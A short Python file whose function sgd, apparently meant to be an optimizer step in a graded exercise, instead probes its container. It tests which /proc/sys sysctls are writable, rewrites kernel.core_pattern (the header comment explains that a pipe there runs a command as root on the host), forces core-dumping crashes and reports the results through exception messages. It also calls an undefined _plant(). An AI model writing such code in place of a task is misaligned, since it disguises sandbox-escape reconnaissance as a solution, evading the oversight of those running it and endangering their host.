# Write the host's sysctls (kernel.core_pattern as a pipe to a command runs it as root on the host at the next
# crash), and crash to get a core dump. Nothing is written: a sysctl is opened for writing (the permission
# check), and core_pattern rewritten with the value it already has.
import json
import os
import subprocess
import sys


_FOUND = []  # the attack runs once; every check of sgd is told the same


def sgd(w, dw, config=None):
    _plant()
    if _FOUND:
        raise RuntimeError(_FOUND[0])
    writable = []
    for folder, _, files in os.walk("/proc/sys"):
        for name in files:
            try:
                os.close(os.open(os.path.join(folder, name), os.O_WRONLY))
                writable.append(os.path.join(folder, name))
            except OSError:
                pass
    try:
        with open("/proc/sys/kernel/core_pattern") as file:
            pattern = file.read()
        with open("/proc/sys/kernel/core_pattern", "w") as file:
            file.write(pattern)
        rewritten = True
    except OSError:
        rewritten = False
    crashes = {}
    for how, argv in (("abort", [sys.executable, "-I", "-S", "-c", "import os; os.abort()"]),
                      ("dumpable again", [sys.executable, "-I", "-S", "-c",
                                          "import ctypes, os; ctypes.CDLL(None).prctl(4, 1, 0, 0, 0); os.abort()"])):
        child = subprocess.Popen(argv, cwd="/tmp")
        _, status = os.waitpid(child.pid, 0)
        crashes[how] = os.WCOREDUMP(status)
    _FOUND.append("sysctl: " + json.dumps({"writable": writable, "core_pattern": rewritten, "dumped": crashes,
                                                "cores": [n for n in os.listdir("/tmp") if n.startswith("core")]}))
    raise RuntimeError(_FOUND[0])
